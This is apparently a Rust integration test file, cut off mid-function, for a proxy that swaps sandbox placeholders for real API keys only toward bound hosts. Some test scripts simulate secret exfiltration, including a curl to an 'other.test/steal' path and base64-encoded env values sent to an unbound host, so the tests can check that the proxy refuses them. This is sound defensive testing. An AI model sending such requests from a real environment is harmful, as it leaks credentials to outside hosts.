//! Issue #26 (first part): `sealctl proxy` with real clients (curl, Python)
//! and real HTTPS upstreams on loopback (their own test CA, named through
//! `--proxy-resolve`).

use std::fs;
use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};

use sealinit_testkit::*;

/// An HTTPS server on 127.0.0.1 for `names`, with its own CA: it appends
/// each request it receives (request line, headers, body) to `log`, and
/// answers with the same, its Authorization header reversed (so that the
/// agent never gets a value back, and memory scans mean something).
struct Upstream {
    _child: ProxyProc,
    port: u16,
    ca: std::path::PathBuf,
    log: std::path::PathBuf,
}

fn upstream(env: &StoreDir, names: &[&str]) -> Upstream {
    let sans: Vec<String> = names.iter().map(|n| format!("DNS:{n}")).collect();
    let script = format!(
        "set -e
         openssl req -x509 -newkey rsa:2048 -nodes -keyout up-ca.key -out up-ca.pem -days 2 -subj /CN=up-ca 2>/dev/null
         openssl req -newkey rsa:2048 -nodes -keyout up.key -out up.csr -subj /CN={} 2>/dev/null
         printf 'subjectAltName={}\\n' > up.ext
         openssl x509 -req -in up.csr -CA up-ca.pem -CAkey up-ca.key -CAcreateserial -out up.pem -days 2 -extfile up.ext 2>/dev/null",
        names[0],
        sans.join(",")
    );
    let o = Command::new("sh")
        .args(["-c", &script])
        .current_dir(env.dir.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "openssl: {}", stderr(&o));
    let server = r#"
import http.server, ssl, sys
log = open(sys.argv[1], "ab", buffering=0)
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def handle_one_request(self):
        return super().handle_one_request()
    def reply(self):
        if (self.headers.get("Upgrade") or "").lower() == "websocket":
            return self.websocket()
        if (self.headers.get("Transfer-Encoding") or "").lower() == "chunked":
            body = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                chunk = self.rfile.read(size + 2)[:size]
                if not size:
                    break
                body += chunk
        else:
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n) if n else b""
        seen = (self.requestline + "\n" + str(self.headers)).encode() + body + b"\n--\n"
        log.write(seen)
        auth = self.headers.get("Authorization") or ""
        if auth:
            seen = seen.replace(auth.encode(), b"reversed:" + auth[::-1].encode())
        self.send_response(200)
        self.send_header("Content-Length", str(len(seen)))
        self.end_headers()
        self.wfile.write(seen)
    def websocket(self):
        import base64, hashlib
        log.write((self.requestline + "\n" + str(self.headers) + "\n--\n").encode())
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
        self.end_headers()
        self.wfile.flush()
        data = self.connection.recv(1024)
        self.connection.sendall(b"echo:" + data)
        self.close_connection = True
    do_GET = do_POST = reply
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("up.pem", "up.key")
s.socket = ctx.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
    let log = env.path("upstream.log");
    let (child, port) = python_server(env, server, log.to_str().unwrap());
    Upstream {
        _child: child,
        port,
        ca: env.path("up-ca.pem"),
        log,
    }
}

/// A Python server (`script ARG`, run in the test's directory) once it has
/// printed its port.
fn python_server(env: &StoreDir, script: &str, arg: &str) -> (ProxyProc, u16) {
    let mut c = Command::new("python3")
        .args(["-c", script, arg])
        .current_dir(env.dir.path())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(c.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port = line.trim().parse().unwrap();
    (ProxyProc(c), port)
}

/// A running `sealctl proxy`, ended when dropped.
struct ProxyProc(Child);

impl Drop for ProxyProc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Sets `STRIPE_KEY` of `repo`, delivered through the proxy to `host`.
fn set_proxy_secret(env: &StoreDir, repo: &str, host: &str, value: &[u8]) {
    ok(&env.run(
        &[
            "secrets",
            "set",
            "--repo",
            repo,
            "STRIPE_KEY",
            "--delivery",
            "proxy",
            "--host",
            host,
        ],
        Some(value),
    ));
}

/// `sealctl seal --repo REPO` into the sandbox's part `b{tag}`/`k{tag}` and
/// the proxy's part `p{tag}`/`pk{tag}`.
fn seal_parts(env: &StoreDir, repo: &str, tag: &str) {
    let [b, k, p, pk] = ["b", "k", "p", "pk"].map(|n| format!("{n}{tag}"));
    ok(&env.run(
        &[
            "seal",
            "--repo",
            repo,
            "--out",
            &b,
            "--key-out",
            &k,
            "--proxy-out",
            &p,
            "--proxy-key-out",
            &pk,
        ],
        None,
    ));
}

/// What the agent holds for `name` in the sandbox's part `b{tag}` (read
/// with sealinit, as the agent).
fn agent_sees(env: &StoreDir, tag: &str, name: &str) -> String {
    let o = Command::new(workspace_bin("sealinit"))
        .args(["--bundle", env.path(&format!("b{tag}")).to_str().unwrap()])
        .args([
            "--key-file",
            env.path(&format!("k{tag}")).to_str().unwrap(),
            "printenv",
            name,
        ])
        .output()
        .unwrap();
    stdout(&o).trim().to_owned()
}

/// What the upstream answers for an Authorization header it received.
fn rev(auth: &str) -> String {
    format!("reversed:{}", auth.chars().rev().collect::<String>())
}

/// Starts `sealctl ARGS` (a proxy) and reads its stderr up to the line
/// starting with `ready`: the process, the rest of that line, and the
/// lines that follow.
fn start_until(
    env: &StoreDir,
    args: &[String],
    ready: &str,
) -> (ProxyProc, String, std::sync::mpsc::Receiver<String>) {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut child = ProxyProc(
        env.cmd(&args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut err = BufReader::new(child.0.stderr.take().unwrap());
    let mut line = String::new();
    loop {
        line.clear();
        assert!(err.read_line(&mut line).unwrap() > 0, "{args:?} exited");
        if let Some(rest) = line.strip_prefix(ready) {
            let (tx, rx) = std::sync::mpsc::channel();
            std::thread::spawn(move || {
                for l in err.lines().map_while(Result::ok) {
                    let _ = tx.send(l);
                }
            });
            return (child, rest.trim().to_owned(), rx);
        }
    }
}

/// `sealctl proxy` for the part in `p`/`pk`, once it listens.
fn proxy(env: &StoreDir, up: &Upstream, hosts: &[&str]) -> (ProxyProc, String) {
    let mut args = vec![
        "proxy".to_owned(),
        "--bundle".into(),
        "p".into(),
        "--key-file".into(),
        "pk".into(),
        "--listen".into(),
        "127.0.0.1:0".into(),
        "--ca-out".into(),
        "launch-ca.pem".into(),
    ];
    args.extend(upstream_args(up, hosts));
    let (child, rest, _) = start_until(env, &args, "sealctl proxy: listening on ");
    (child, rest.split_whitespace().next().unwrap().to_owned())
}

/// How a proxy reaches the test upstream: its CA, and each of `hosts` at
/// its loopback port.
fn upstream_args(up: &Upstream, hosts: &[&str]) -> Vec<String> {
    let mut args = vec![
        "--proxy-upstream-ca".to_owned(),
        up.ca.display().to_string(),
    ];
    for h in hosts {
        args.extend([
            "--proxy-resolve".into(),
            format!("{h}:{}:127.0.0.1", up.port),
        ]);
    }
    args
}

/// The host's proxy (`sealctl proxy --control`), once it takes launches:
/// the process and its control socket.
fn host_proxy(
    env: &StoreDir,
    up: &Upstream,
    hosts: &[&str],
) -> (
    ProxyProc,
    std::path::PathBuf,
    std::sync::mpsc::Receiver<String>,
) {
    let control = env.path("proxy.sock");
    let mut args = vec![
        "proxy".to_owned(),
        "--control".into(),
        control.display().to_string(),
    ];
    args.extend(upstream_args(up, hosts));
    let (child, _, said) = start_until(env, &args, "sealctl proxy: taking launches on ");
    (child, control, said)
}

/// `sealctl proxy --attach`: a launch handed to the host's proxy, once it
/// is served; its stdout carries the launch's audit records.
fn attach(
    env: &StoreDir,
    control: &std::path::Path,
    part: &str,
    key: &str,
    ca: &str,
) -> (ProxyProc, String) {
    attach_on(env, control, (part, key, ca), &["--listen", "127.0.0.1:0"])
}

/// The same, listening where `listen` says.
fn attach_on(
    env: &StoreDir,
    control: &std::path::Path,
    (part, key, ca): (&str, &str, &str),
    listen: &[&str],
) -> (ProxyProc, String) {
    let mut args: Vec<String> = [
        "proxy",
        "--attach",
        control.to_str().unwrap(),
        "--bundle",
        part,
        "--key-file",
        key,
        "--ca-out",
        ca,
    ]
    .map(String::from)
    .to_vec();
    args.extend(listen.iter().map(|a| a.to_string()));
    let (child, rest, _) = start_until(env, &args, "sealctl proxy: launch handed to ");
    (child, rest.rsplit(" on ").next().unwrap().to_owned())
}

/// curl through the proxy, trusting the launch's CA.
fn through(env: &StoreDir, proxy: &str) -> Command {
    let mut c = Command::new("curl");
    c.args(["-sS", "--proxy", &format!("http://{proxy}"), "--cacert"])
        .arg(env.path("launch-ca.pem"));
    c
}

/// curl through the proxy: status and body.
fn curl(
    env: &StoreDir,
    proxy: &str,
    port: u16,
    url_host: &str,
    headers: &[String],
) -> (u16, String) {
    let mut c = through(env, proxy);
    c.args(["-o", "-", "-w", "\n%{http_code}"]);
    for h in headers {
        c.args(["-H", h]);
    }
    c.arg(format!("https://{url_host}:{port}/v1/charges?limit=1"));
    let o = c.output().unwrap();
    let out = stdout(&o);
    let (body, code) = out.rsplit_once('\n').unwrap();
    (code.trim().parse().unwrap_or(0), body.to_owned())
}

#[test]
fn placeholders_become_values_only_toward_their_hosts() {
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let stripe = "sk_test_51Proxy0123456789abcdefXYZ";
    let app = "app-env-value-2e81c4b7";
    let set = |name: &str, value: &str, extra: &[&str]| {
        let mut args = vec!["secrets", "set", "--repo", "acme/api", name];
        args.extend_from_slice(extra);
        ok(&env.run(&args, Some(value.as_bytes())));
    };
    // The upstreams listen on one loopback port, which the binding names.
    let up = upstream(&env, &["api.stripe.test", "other.test"]);
    let bound = format!("api.stripe.test:{}", up.port);
    set(
        "STRIPE_KEY",
        stripe,
        &[
            "--delivery",
            "proxy",
            "--host",
            &bound,
            "--placeholder",
            "keep-prefix",
        ],
    );
    set("APP", app, &[]);
    seal_parts(&env, "acme/api", "");
    let (_proxy, addr) = proxy(&env, &up, &["api.stripe.test", "other.test"]);
    // The placeholder the sandbox got.
    let placeholder = agent_sees(&env, "", "STRIPE_KEY");
    assert!(
        placeholder.starts_with("sk_test_") && placeholder != stripe,
        "{placeholder}"
    );

    // Bound host: the upstream receives the real value.
    let auth = format!("Authorization: Bearer {placeholder}");
    let (code, body) = curl(
        &env,
        &addr,
        up.port,
        "api.stripe.test",
        std::slice::from_ref(&auth),
    );
    assert_eq!(code, 200, "{body}");
    assert!(body.contains(&rev(&format!("Bearer {stripe}"))), "{body}");
    // Basic credentials are decoded, replaced and encoded again.
    let o = through(&env, &addr)
        .args(["-u", &format!("{placeholder}:")])
        .arg(format!("https://api.stripe.test:{}/", up.port))
        .output()
        .unwrap();
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{stripe}:"));
    assert!(
        stdout(&o).contains(&rev(&format!("Basic {basic}"))),
        "{}",
        stdout(&o)
    );

    // HTTP/2 between the client and the proxy (ALPN), HTTP/1.1 upstream.
    let o = through(&env, &addr)
        .args(["--http2", "-w", "\n%{http_version}", "-H", &auth])
        .arg(format!("https://api.stripe.test:{}/h2", up.port))
        .output()
        .unwrap();
    assert!(stdout(&o).ends_with("\n2"), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains(&rev(&format!("Bearer {stripe}"))),
        "{}",
        stdout(&o)
    );
    // Node: its built-in fetch ignores HTTPS_PROXY; a CONNECT tunnel as
    // undici's ProxyAgent makes it, with the launch's CA.
    let node = r#"
const http = require('http'), tls = require('tls'), fs = require('fs');
const [proxy, host, port, ca, key] = process.argv.slice(1);
const [ph, pp] = proxy.split(':');
http.request({host: ph, port: +pp, method: 'CONNECT', path: `${host}:${port}`}).on('connect', (res, socket) => {
  const s = tls.connect({socket, servername: host, ca: fs.readFileSync(ca)}, () => {
    s.write(`GET /node HTTP/1.1
Host: ${host}:${port}
Authorization: Bearer ${key}
Connection: close

`);
  });
  let out = ''; s.on('data', d => out += d); s.on('end', () => { console.log(out); });
}).end();
"#;
    let o = Command::new("node")
        .args(["-e", node, &addr, "api.stripe.test", &up.port.to_string()])
        .arg(env.path("launch-ca.pem"))
        .arg(&placeholder)
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains(&rev(&format!("Bearer {stripe}"))),
        "{}{}",
        stdout(&o),
        stderr(&o)
    );

    // A WebSocket upgrade: substituted in the upgrade request only, then
    // the two connections are joined.
    let ws = r#"
import socket, ssl, sys
proxy, host, port, ca, key = sys.argv[1:]
ph, pp = proxy.split(":")
s = socket.create_connection((ph, int(pp)))
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
assert s.recv(1024).startswith(b"HTTP/1.1 200"), "CONNECT"
t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=host)
t.sendall((f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
           f"Authorization: Bearer {key}\r\n\r\n").encode())
head = b""
while b"\r\n\r\n" not in head:
    head += t.recv(1024)
print(head.split(b"\r\n")[0].decode())
t.sendall(b"frame-bytes")
print(t.recv(1024).decode())
"#;
    let o = Command::new("python3")
        .args(["-c", ws, &addr, "api.stripe.test", &up.port.to_string()])
        .arg(env.path("launch-ca.pem"))
        .arg(&placeholder)
        .output()
        .unwrap();
    assert_eq!(
        stdout(&o),
        "HTTP/1.1 101 Switching Protocols\necho:frame-bytes\n",
        "{}",
        stderr(&o)
    );
    assert!(
        fs::read_to_string(&up.log).unwrap().contains(&format!(
            "GET /ws HTTP/1.1\nhost: api.stripe.test:{}",
            up.port
        )),
        "the upgrade reached the upstream"
    );

    // Another host: refused with a plain answer; the upstream gets nothing.
    let before = fs::read_to_string(&up.log).unwrap();
    let (code, body) = curl(
        &env,
        &addr,
        up.port,
        "other.test",
        std::slice::from_ref(&auth),
    );
    assert_eq!(code, 403, "{body}");
    assert!(
        body.contains("STRIPE_KEY") && body.contains("other.test"),
        "{body}"
    );
    // An env value, raw or base64-encoded, to any host: refused.
    let b64 = base64::engine::general_purpose::STANDARD.encode(app);
    for h in [format!("X-Data: {app}"), format!("X-Data: {b64}")] {
        let (code, body) = curl(&env, &addr, up.port, "other.test", &[h]);
        assert_eq!(code, 403, "{body}");
        assert!(body.contains("APP"), "{body}");
    }
    // ... and in a body (chunked, as a streaming client sends it).
    let o = Command::new("curl")
        .args([
            "-sS",
            "-w",
            "\n%{http_code}",
            "--proxy",
            &format!("http://{addr}"),
            "--cacert",
        ])
        .arg(env.path("launch-ca.pem"))
        .args([
            "-H",
            "Transfer-Encoding: chunked",
            "--data-binary",
            &format!("{{\"x\": \"{b64}\"}}"),
        ])
        .arg(format!("https://other.test:{}/upload", up.port))
        .output()
        .unwrap();
    assert!(
        stdout(&o).ends_with("403") && stdout(&o).contains("APP"),
        "{}",
        stdout(&o)
    );
    assert_eq!(
        fs::read_to_string(&up.log).unwrap(),
        before,
        "nothing reached the upstream"
    );
    // A body without a secret goes through, chunked or not.
    let o = through(&env, &addr)
        .args([
            "-H",
            "Transfer-Encoding: chunked",
            "--data-binary",
            "hello-body",
        ])
        .arg(format!("https://other.test:{}/upload", up.port))
        .output()
        .unwrap();
    assert!(stdout(&o).contains("hello-body"), "{}", stdout(&o));
    // A Host header that is not the CONNECT host: refused.
    let (code, body) = curl(
        &env,
        &addr,
        up.port,
        "api.stripe.test",
        &["Host: other.test".into(), auth.clone()],
    );
    assert_eq!(code, 403, "{body}");
    // Plain HTTP with the placeholder: refused.
    let o = Command::new("curl")
        .args([
            "-sS",
            "-w",
            "\n%{http_code}",
            "--proxy",
            &format!("http://{addr}"),
        ])
        .args(["-H", &auth])
        .arg(format!("http://api.stripe.test:{}/", up.port))
        .output()
        .unwrap();
    assert!(stdout(&o).ends_with("403"), "{}", stdout(&o));
    assert!(stdout(&o).contains("plain HTTP"), "{}", stdout(&o));
    // Python's urllib through HTTPS_PROXY, trusting the launch CA.
    let o = Command::new("python3")
        .args([
            "-c",
            "import ssl,sys,urllib.request\n\
             ctx = ssl.create_default_context(cafile=sys.argv[2])\n\
             req = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + sys.argv[3]})\n\
             print(urllib.request.urlopen(req, context=ctx).read().decode())",
            &format!("https://api.stripe.test:{}/py", up.port),
            env.path("launch-ca.pem").to_str().unwrap(),
            &placeholder,
        ])
        .env("HTTPS_PROXY", format!("http://{addr}"))
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains(&rev(&format!("Bearer {stripe}"))),
        "{}{}",
        stdout(&o),
        stderr(&o)
    );
}

/// One command: `sealctl run --sandbox` starts the proxy on a listener in
/// the sandbox's own network namespace (its only way out), points the
/// agent's clients at it and at the launch's CA, and ends it afterwards.
#[test]
fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
    let env = StoreDir::new();
    let up = upstream(&env, &["api.stripe.test", "other.test"]);
    sandbox_case(&env, &up, &[]);
}

/// The same, with the launch handed to the host's proxy (one process for
/// every launch of the host): the same answers, the same audit trail.
#[test]
fn sealctl_run_sandbox_hands_its_launch_to_the_hosts_proxy() {
    let env = StoreDir::new();
    let up = upstream(&env, &["api.stripe.test", "other.test"]);
    let (_host, control, _) = host_proxy(&env, &up, &["api.stripe.test", "other.test"]);
    sandbox_case(&env, &up, &["--proxy-control", control.to_str().unwrap()]);
}

/// `sealctl run --sandbox` with a proxy secret: curl, Python's urllib and
/// requests inside reach the bound upstream with the value; the sandbox
/// holds only the placeholder and cannot reach upstreams directly.
fn sandbox_case(env: &StoreDir, up: &Upstream, extra: &[&str]) {
    env.create(&["acme/api"]);
    let stripe = "sk_test_51Sandbox0123456789abcdefXYZ";
    let bound = format!("api.stripe.test:{}", up.port);
    set_proxy_secret(env, "acme/api", &bound, stripe.as_bytes());
    let url = format!("https://api.stripe.test:{}/v1/charges", up.port);
    let port = up.port;
    let script = format!(
        "case \"$STRIPE_KEY\" in sealinit-*) ;; *) echo 'not a placeholder'; exit 9;; esac
         env | grep -c '{stripe}' || true
         curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" {url}
         echo; echo direct:
         curl -sS --noproxy '*' --max-time 5 {url} 2>&1 | head -c 200 || true
         echo; echo refused:
         curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" 'https://other.test:{port}/steal?token=x'
         echo; echo python:
         python3 -c 'import os,urllib.request; print(urllib.request.urlopen(urllib.request.Request(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}})).read().decode())'
         echo; echo requests:
         python3 -c 'import os,requests; print(requests.post(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}}, data=b\"amount=1\").text)'"
    );
    let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
    let other = format!("other.test:{}:127.0.0.1", up.port);
    let mut args = vec![
        "run",
        "--repo",
        "acme/api",
        "--sandbox",
        "--proxy-resolve",
        &resolve,
        "--proxy-resolve",
        &other,
        "--proxy-upstream-ca",
        up.ca.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    args.extend(["--", "sh", "-c", &script]);
    let o = env.run(&args, None);
    let out = stdout(&o);
    assert!(o.status.success(), "{out}{}", stderr(&o));
    let (through, rest) = out.split_once("direct:").unwrap();
    let (direct, rest) = rest.split_once("refused:").unwrap();
    let (refused, rest) = rest.split_once("python:").unwrap();
    let (python, requests) = rest.split_once("requests:").unwrap();
    assert!(
        requests.contains(&rev(&format!("Bearer {stripe}"))) && requests.contains("amount=1"),
        "{requests}"
    );
    assert!(
        refused.contains("STRIPE_KEY") && refused.contains("other.test"),
        "{refused}"
    );
    assert!(
        through.starts_with("0\n"),
        "the agent's environment holds no value: {out}"
    );
    assert!(through.contains(&rev(&format!("Bearer {stripe}"))), "{out}");
    assert!(
        !direct.contains("200 OK") && !direct.contains(stripe),
        "{direct}"
    );
    assert!(
        python.contains(&rev(&format!("Bearer {stripe}"))),
        "{python}"
    );
    assert!(!stderr(&o).contains(stripe));
    // Every substitution and refusal is in the store's audit trail, with
    // the launch, secret, host, method and path; no value, no query.
    let o = ok(&env.run(&["audit", "--launch", "acme/api", "--json"], None)).clone();
    let records = json_lines(&o);
    let egress: Vec<&serde_json::Value> =
        records.iter().filter(|r| r["action"] == "egress").collect();
    let outcome = |o: &str| {
        egress
            .iter()
            .filter(|r| r["detail"]["outcome"] == o)
            .count()
    };
    assert_eq!(
        (outcome("substituted"), outcome("refused")),
        (3, 1),
        "{records:?}"
    );
    let refused = egress
        .iter()
        .find(|r| r["detail"]["outcome"] == "refused")
        .unwrap();
    assert_eq!(
        refused["detail"]["secrets"],
        serde_json::json!(["STRIPE_KEY"])
    );
    assert_eq!(refused["detail"]["host"], "other.test");
    assert_eq!(refused["detail"]["path"], "/steal");
    assert!(records.iter().any(|r| r["action"] == "seal"));
    assert!(!stdout(&o).contains(stripe) && !stdout(&o).contains("token=x"));
}

/// Every process of a sandbox: the descendants of `root` (bwrap's child
/// tree), `root` included.
fn tree(root: i32) -> Vec<i32> {
    let mut all = vec![root];
    let mut i = 0;
    while i < all.len() {
        let p = all[i];
        for task in fs::read_dir(format!("/proc/{p}/task"))
            .into_iter()
            .flatten()
            .flatten()
        {
            let children = fs::read_to_string(task.path().join("children")).unwrap_or_default();
            all.extend(
                children
                    .split_whitespace()
                    .filter_map(|c| c.parse::<i32>().ok()),
            );
        }
        i += 1;
    }
    all
}

/// After the agent has used a proxy secret, no process in the sandbox
/// holds its value: a memory scan of each (sealinit as PID 1, the shell,
/// the agent) finds none.
#[test]
fn no_process_in_the_sandbox_holds_a_proxy_value() {
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let up = upstream(&env, &["api.stripe.test"]);
    let stripe = "sk_test_51Memory0123456789abcdefghijklmnopq";
    let bound = format!("api.stripe.test:{}", up.port);
    set_proxy_secret(&env, "acme/api", &bound, stripe.as_bytes());
    let work = env.path("work");
    fs::create_dir_all(&work).unwrap();
    let script = format!(
        "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $STRIPE_KEY\" https://api.stripe.test:{}/ > {w}/code
         : > {w}/ready; exec sleep 1000",
        up.port,
        w = work.display()
    );
    let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
    let mut child = env
        .cmd(&[
            "run",
            "--repo",
            "acme/api",
            "--sandbox",
            "--bind",
            work.to_str().unwrap(),
            "--proxy-resolve",
            &resolve,
            "--proxy-upstream-ca",
            up.ca.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for_file(&work.join("ready"));
    assert_eq!(fs::read_to_string(work.join("code")).unwrap(), "200");
    assert!(
        fs::read_to_string(&up.log).unwrap().contains(stripe),
        "the upstream got it"
    );
    // sealctl's child is bwrap; the sandbox is bwrap's tree.
    let sealctl = child.id() as i32;
    let sandbox: Vec<i32> = tree(sealctl)
        .into_iter()
        .filter(|&p| p != sealctl)
        .collect();
    assert!(sandbox.len() >= 3, "{sandbox:?}");
    let needles: Vec<&[u8]> = vec![&stripe.as_bytes()[..20], &stripe.as_bytes()[20..]];
    for pid in &sandbox {
        let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        assert!(
            needles_in_memory(*pid, &needles).is_empty(),
            "{} ({pid}) holds the value",
            comm.trim()
        );
    }
    // Control: the proxy, outside, does hold it (the scan would see it).
    assert!(
        !needles_in_memory(sealctl, &needles).is_empty(),
        "control scan"
    );
    kill(sealctl, "TERM");
    let _ = child.wait();
}

/// Fifty sandboxes at once, each with its own launch and proxy: each
/// upstream request carries that sandbox's value and no other's.
#[test]
fn fifty_sandboxes_each_receive_only_their_own_values() {
    const N: usize = 50;
    let env = StoreDir::new();
    let up = upstream(&env, &["api.stripe.test"]);
    let bound = format!("api.stripe.test:{}", up.port);
    let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
    let values: Vec<String> = (0..N)
        .map(|i| format!("sk_test_fifty{i:02}x{}", random_text(24)))
        .collect();
    for (i, v) in values.iter().enumerate() {
        let repo = format!("fleet/r{i:02}");
        env.create(&[&repo]);
        ok(&env.run(
            &[
                "secrets",
                "set",
                "--repo",
                &repo,
                "STRIPE_KEY",
                "--delivery",
                "proxy",
                "--host",
                &bound,
            ],
            Some(v.as_bytes()),
        ));
    }
    let children: Vec<(usize, std::process::Child)> = (0..N)
        .map(|i| {
            let script = format!(
                "curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" -H 'X-Sandbox: {i:02}' https://api.stripe.test:{}/",
                up.port
            );
            let child = env
                .cmd(&[
                    "run", "--repo", &format!("fleet/r{i:02}"), "--sandbox",
                    "--proxy-resolve", &resolve, "--proxy-upstream-ca", up.ca.to_str().unwrap(),
                    "--", "sh", "-c", &script,
                ])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            (i, child)
        })
        .collect();
    for (i, c) in children {
        let o = c.wait_with_output().unwrap();
        assert!(o.status.success(), "sandbox {i}: {}", stderr(&o));
        assert!(
            stdout(&o).contains(&rev(&format!("Bearer {}", values[i]))),
            "sandbox {i}"
        );
    }
    // Each request the upstream saw carries the value of its own sandbox.
    let log = fs::read_to_string(&up.log).unwrap();
    let requests: Vec<&str> = log
        .split("\n--\n")
        .filter(|r| r.contains("x-sandbox"))
        .collect();
    assert_eq!(requests.len(), N);
    for r in requests {
        let i: usize = r.split("x-sandbox: ").nth(1).unwrap()[..2].parse().unwrap();
        for (j, v) in values.iter().enumerate() {
            assert_eq!(
                r.contains(v.as_str()),
                i == j,
                "request of sandbox {i}, value of {j}"
            );
        }
    }
}

/// A repository's egress policy decides requests that carry no secret:
/// with `deny`, only the hosts it allows and those its proxy secrets are
/// bound to; set through the CLI and the API alike.
#[test]
fn the_egress_policy_decides_requests_without_secrets() {
    use sealinit_testkit::api::{Client, token};
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let up = upstream(&env, &["api.stripe.test", "allowed.test", "other.test"]);
    let p = up.port;
    set_proxy_secret(
        &env,
        "acme/api",
        &format!("api.stripe.test:{p}"),
        b"sk_test_policy0123456789",
    );
    let o = ok(&env.run(&["repos", "egress", "acme/api", "--json"], None)).clone();
    assert_eq!(stdout(&o).trim(), r#"{"default":"allow"}"#);
    let o = env.run(
        &[
            "repos",
            "egress",
            "acme/api",
            "--default",
            "deny",
            "--allow",
            "bad host",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(64), "{}", stderr(&o));
    // Through the API (as the page and clients do), then the CLI reads it.
    let admin = token(&env, &["write:acme/*"]);
    let server = Server::start(&env, &[]);
    let w = Client::new(&server, Some(&admin));
    let r = w.put(
        "/repos/acme%2Fapi/egress",
        serde_json::json!({"default": "deny", "allow": [format!("ALLOWED.test:{p}")]}),
    );
    assert_eq!(r.0, 200, "{:?}", r.1);
    assert_eq!(
        r.1["allow"],
        serde_json::json!([format!("allowed.test:{p}")])
    );
    drop(server);
    let o = ok(&env.run(&["repos", "egress", "acme/api"], None)).clone();
    assert!(stdout(&o).contains("default: deny"), "{}", stdout(&o));
    let script = format!(
        "for h in allowed.test other.test api.stripe.test; do
           printf '%s ' $h; curl -sS -o /dev/null -w '%{{http_code}}\\n' https://$h:{p}/
         done"
    );
    let mut args = vec![
        "run",
        "--repo",
        "acme/api",
        "--sandbox",
        "--proxy-upstream-ca",
        up.ca.to_str().unwrap(),
    ];
    let resolves: Vec<String> = ["allowed.test", "other.test", "api.stripe.test"]
        .iter()
        .map(|h| format!("{h}:{p}:127.0.0.1"))
        .collect();
    for r in &resolves {
        args.extend(["--proxy-resolve", r]);
    }
    args.extend(["--", "sh", "-c", &script]);
    let o = env.run(&args, None);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "allowed.test 200\nother.test 403\napi.stripe.test 200\n",
        "{}",
        stderr(&o)
    );
    let o = ok(&env.run(&["audit", "--repo", "acme/api", "--json"], None)).clone();
    assert!(stdout(&o).contains("\"egress-policy\""), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("egress policy does not allow other.test"),
        "{}",
        stdout(&o)
    );
}

/// One host proxy serves many launches (`sealctl proxy --control`), each on
/// its own listener with its own CA and values: a launch never gets
/// another's value, and ends (its listener closed) when its launcher goes.
#[test]
fn one_host_proxy_serves_launches_each_with_only_its_own_values() {
    let env = StoreDir::new();
    env.create(&["acme/one", "acme/two"]);
    let up = upstream(&env, &["api.stripe.test"]);
    let bound = format!("api.stripe.test:{}", up.port);
    let values = [
        "sk_test_51HostOne0123456789abcdef",
        "sk_test_51HostTwo0123456789abcdef",
    ];
    let (host, control, said) = host_proxy(&env, &up, &["api.stripe.test"]);
    let mut launches = Vec::new();
    for (i, (repo, value)) in ["acme/one", "acme/two"].iter().zip(values).enumerate() {
        set_proxy_secret(&env, repo, &bound, value.as_bytes());
        let (p, pk) = (format!("p{i}"), format!("pk{i}"));
        seal_parts(&env, repo, &i.to_string());
        let placeholder = agent_sees(&env, &i.to_string(), "STRIPE_KEY");
        let ca = format!("ca{i}.pem");
        let (proc_, addr) = attach(&env, &control, &p, &pk, &ca);
        launches.push((proc_, addr, placeholder, ca));
    }
    let curl_via = |addr: &str, ca: &str, placeholder: &str| {
